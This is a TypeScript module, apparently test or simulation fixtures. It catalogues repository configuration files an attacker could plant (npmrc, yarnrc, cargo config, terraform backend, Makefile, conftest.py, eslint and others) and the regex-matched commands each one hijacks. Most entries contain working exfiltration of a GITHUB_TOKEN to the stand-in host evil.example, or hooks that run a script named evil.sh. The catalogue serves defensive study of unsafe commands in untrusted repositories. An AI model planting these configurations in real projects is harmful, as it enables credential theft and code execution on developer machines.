/** Configuration that a repository may bring, and which calls of which programs it bites, as their manuals say. */
import type { Bite } from './world';

export interface PlantedConfiguration {
  readonly name: string;
  /** Below the folder in which it is planted. */
  readonly files: Readonly<Record<string, string>>;
  readonly bites: readonly Pick<Bite, 'effect' | 'calls'>[];
}

const HOST = 'http://evil.example';

/** A call that only prints help or the version. */
const ASKING = /(^| )(--help|-h|help|--version|-V|-v|version)( |$)/;

/** @param programs and their subcommands, as the beginning of a regular expression */
function calls(programs: string, { evenAsking = false } = {}): RegExp {
  return new RegExp(`${evenAsking ? '' : `(?!.*${ASKING.source})`}^(?:${programs})(?= |$)`);
}

const REGISTRY_READS = calls(
  '(?:npm|pnpm) (?:.* )?(?:view|v|info|show|outdated|audit|search|ping|whoami|access|dist-tag|owner|team|profile|doctor|install|ci|update)',
);

export const PLANTED: readonly PlantedConfiguration[] = [
  {
    name: 'npmrc registry',
    files: { '.npmrc': `registry=${HOST}/\${GITHUB_TOKEN}/\n` },
    bites: [{ effect: 'sends', calls: REGISTRY_READS }],
  },
  {
    name: 'npmrc scope',
    files: { '.npmrc': `@types:registry=${HOST}/\${GITHUB_TOKEN}/\n` },
    bites: [{ effect: 'sends', calls: calls('(?:npm|pnpm) (?:view|info|show|outdated|audit)') }],
  },
  {
    name: 'npmrc userconfig',
    files: { '.npmrc': 'userconfig=./conf/npm\n', 'conf/npm': `registry=${HOST}/\${GITHUB_TOKEN}/\n` },
    bites: [{ effect: 'sends', calls: REGISTRY_READS }],
  },
  {
    name: 'npmrc proxy',
    files: { '.npmrc': `https-proxy=${HOST}:1/\n` },
    bites: [{ effect: 'sends', calls: REGISTRY_READS }],
  },
  {
    name: 'yarnrc yarnPath',
    files: { '.yarnrc': 'yarnPath "./scripts/x.js"\n' },
    bites: [{ effect: 'starts', calls: calls('yarn', { evenAsking: true }) }],
  },
  {
    name: 'yarnrc yarn-path',
    files: { '.yarnrc': 'yarn-path "./scripts/x.js"\n' },
    bites: [{ effect: 'starts', calls: calls('yarn', { evenAsking: true }) }],
  },
  {
    name: 'yarnrc.yml yarnPath',
    files: { '.yarnrc.yml': 'yarnPath: ./scripts/x.cjs\n' },
    bites: [{ effect: 'starts', calls: calls('yarn', { evenAsking: true }) }],
  },
  {
    name: 'yarnrc.yml plugin',
    files: { '.yarnrc.yml': 'plugins:\n  - ./scripts/x.cjs\n' },
    bites: [{ effect: 'starts', calls: calls('yarn', { evenAsking: true }) }],
  },
  {
    name: 'yarnrc.yml registry',
    files: { '.yarnrc.yml': `npmRegistryServer: "${HOST}/\${GITHUB_TOKEN}"\n` },
    bites: [{ effect: 'sends', calls: calls('yarn (?:npm (?:info|audit)|info|outdated|audit|npm whoami)') }],
  },
  {
    name: 'bunfig registry',
    files: { 'bunfig.toml': `[install]\nregistry = "${HOST}/"\n` },
    bites: [{ effect: 'sends', calls: calls('bun (?:info|outdated|audit|pm view|pm whoami)') }],
  },
  {
    name: 'cargo env',
    files: { '.cargo/config.toml': '[env]\nLD_PRELOAD = { value = "evil.so", relative = true }\n' },
    bites: [{ effect: 'starts', calls: calls('cargo (?:\\S+ )*(?:tree|metadata|check|build|test|run|clippy|doc)') }],
  },
  {
    name: 'cargo wrapper',
    files: { '.cargo/config.toml': '[build]\nrustc-wrapper = "./scripts/evil.sh"\n' },
    bites: [{ effect: 'starts', calls: calls('cargo (?:\\S+ )*(?:tree|metadata|check|build|test|run|clippy|doc)') }],
  },
  {
    name: 'cargo rustflags',
    files: { '.cargo/config.toml': '[build]\nrustflags = ["-Clinker=./scripts/evil.sh"]\n' },
    bites: [{ effect: 'starts', calls: calls('cargo (?:\\S+ )*(?:check|build|test|run|clippy|doc)') }],
  },
  {
    name: 'cargo credential provider',
    files: {
      '.cargo/config.toml': `[registries.x]\nindex = "sparse+${HOST}/"\ncredential-provider = "./scripts/evil.sh"\n[source.crates-io]\nreplace-with = "x"\n[source.x]\nregistry = "sparse+${HOST}/"\n`,
    },
    bites: [{ effect: 'sends', calls: calls('cargo (?:search|info|update|fetch|add|install|outdated)') }],
  },
  {
    name: 'rust-toolchain path',
    files: { 'rust-toolchain.toml': '[toolchain]\npath = "./scripts/toolchain"\n' },
    bites: [{ effect: 'starts', calls: calls('cargo|rustc|rustfmt|rustdoc', { evenAsking: true }) }],
  },
  {
    name: 'terraform backend',
    files: {
      'main.tf':
        'terraform {\n  backend "s3" {\n    bucket = "b"\n    key = "k"\n    region = "r"\n    shared_config_files = ["evil.cfg"]\n  }\n}\n',
      'evil.cfg': '[default]\ncredential_process = sh -c ./scripts/evil.sh\n',
      '.terraform/terraform.tfstate': '{"version":3,"backend":{"type":"s3","config":{}}}',
    },
    bites: [
      {
        effect: 'starts',
        calls: calls('terraform (?:-\\S+ )*(?:output|workspace|providers|state|show|plan|refresh|graph|console)'),
      },
    ],
  },
  {
    name: 'terraform provider',
    files: {
      'main.tf': 'provider "x" {}\n',
      '.terraform/providers/registry.terraform.io/x/x/1.0.0/linux_amd64/terraform-provider-x': '#!/bin/sh\n',
    },
    bites: [
      {
        effect: 'starts',
        calls: calls('terraform (?:-\\S+ )*(?:providers schema|validate|show|plan|state show|graph|console)'),
      },
    ],
  },
  {
    name: 'uv python',
    files: { 'pyproject.toml': '[tool.uv.pip]\npython = "./scripts/evil.sh"\n' },
    bites: [{ effect: 'starts', calls: calls('uv pip (?:list|freeze|show|tree|check)') }],
  },
  {
    name: 'venv python',
    files: { '.venv/bin/python': '#!/bin/sh\n', '.venv/pyvenv.cfg': 'home = /usr/bin\n' },
    bites: [
      {
        effect: 'starts',
        calls: calls('uv (?:pip (?:list|freeze|show|tree|check)|run|tree|python find)|poetry (?:show|env info|run)'),
      },
    ],
  },
  {
    name: 'composer repository',
    files: { 'composer.json': `{"repositories":[{"type":"composer","url":"${HOST}/"}]}` },
    bites: [
      {
        effect: 'sends',
        calls: calls(
          'composer (?:show (?:.* )?(?:-a|--all|--available|-l|--latest)|outdated|search|audit|prohibits|why-not)',
        ),
      },
    ],
  },
  {
    name: 'Makefile shell',
    files: { Makefile: 'x := $(shell ./scripts/evil.sh)\nall:\n\techo\n' },
    bites: [{ effect: 'starts', calls: calls('make|gmake') }],
  },
  {
    name: 'Gemfile',
    files: { Gemfile: 'system("./scripts/evil.sh")\n' },
    bites: [{ effect: 'starts', calls: calls('bundle (?:list|info|show|outdated|check|exec|install|config)') }],
  },
  {
    name: 'Package.swift',
    files: { 'Package.swift': '// swift-tools-version:5.5\nimport PackageDescription\n' },
    bites: [{ effect: 'starts', calls: calls('swift (?:package|build|test|run)') }],
  },
  {
    name: 'mix.exs',
    files: { 'mix.exs': 'System.cmd("./scripts/evil.sh", [])\n' },
    bites: [{ effect: 'starts', calls: calls('mix', { evenAsking: true }) }],
  },
  {
    name: 'gradle',
    files: { 'build.gradle': '"./scripts/evil.sh".execute()\n', gradlew: '#!/bin/sh\n' },
    bites: [{ effect: 'starts', calls: calls('gradle (?!--version)') }],
  },
  {
    name: 'eslint config',
    files: { 'eslint.config.js': 'require("child_process").execSync("./scripts/evil.sh")\n' },
    bites: [{ effect: 'starts', calls: calls('(?:npx )?(?:--no-install )?eslint') }],
  },
  {
    name: 'prettier plugin',
    files: { '.prettierrc': '{"plugins":["./scripts/x.cjs"]}\n' },
    bites: [{ effect: 'starts', calls: calls('(?:npx )?(?:--no-install )?prettier') }],
  },
  {
    name: 'jest config',
    files: { 'jest.config.js': 'require("child_process").execSync("./scripts/evil.sh")\n' },
    bites: [{ effect: 'starts', calls: calls('(?:npx )?jest') }],
  },
  {
    name: 'pytest conftest',
    files: { 'conftest.py': 'import os; os.system("./scripts/evil.sh")\n' },
    bites: [{ effect: 'starts', calls: calls('pytest|python3? -m pytest') }],
  },
  {
    name: 'mypy plugin',
    files: { 'mypy.ini': '[mypy]\nplugins = ./scripts/x.py\n' },
    bites: [{ effect: 'starts', calls: calls('mypy') }],
  },
  {
    name: 'pylint plugin',
    files: { '.pylintrc': '[MASTER]\ninit-hook=\'import os; os.system("./scripts/evil.sh")\'\n' },
    bites: [{ effect: 'starts', calls: calls('pylint') }],
  },
  {
    name: 'compose variables',
    files: {
      'compose.yml': 'services:\n  a:\n    image: x\n    environment:\n      T: ${GITHUB_TOKEN}\n    env_file: .env\n',
    },
    bites: [
      {
        effect: 'tells',
        calls: calls(
          'docker compose (?:\\S+ )*config(?! (?:.* )?(?:-q|--quiet|--services|--volumes|--images|--profiles))|docker-compose (?:\\S+ )*config(?! (?:.* )?(?:-q|--quiet|--services))',
        ),
      },
    ],
  },
  {
    name: 'go with hg',
    files: {
      'go.mod': 'module x\n',
      'main.go': 'package main\n',
      '.hg/hgrc': '[hooks]\npre-status = ./scripts/evil.sh\n',
    },
    bites: [{ effect: 'starts', calls: calls('go (?:build|vet|run|list (?:.* )?\\./\\.\\.\\.)') }],
  },
  {
    name: 'go module',
    files: { 'go.mod': 'module x\n\nrequire evil.example/x v1.0.0\n' },
    bites: [{ effect: 'sends', calls: calls('go (?:list|mod (?:graph|why|download|tidy)|build|vet|test|run)') }],
  },
  {
    name: 'nx plugin',
    files: { 'nx.json': '{"plugins":["./scripts/x.js"]}\n' },
    bites: [{ effect: 'starts', calls: calls('(?:npx )?nx') }],
  },
  {
    name: 'Vagrantfile',
    files: { Vagrantfile: 'system("./scripts/evil.sh")\n' },
    bites: [{ effect: 'starts', calls: calls('vagrant') }],
  },
  {
    name: 'Rakefile',
    files: { Rakefile: 'system("./scripts/evil.sh")\n' },
    bites: [{ effect: 'starts', calls: calls('rake') }],
  },
  {
    name: 'ansible plugin',
    files: { 'ansible.cfg': '[defaults]\ncallback_plugins = ./scripts\n' },
    bites: [{ effect: 'starts', calls: calls('ansible(?:-\\w+)?', { evenAsking: true }) }],
  },
  {
    name: 'helm plugin chart',
    files: { 'Chart.yaml': `name: x\ndependencies:\n- name: y\n  repository: ${HOST}/\n` },
    bites: [{ effect: 'sends', calls: calls('helm (?:dependency (?:update|build)|pull|install|upgrade)') }],
  },
];
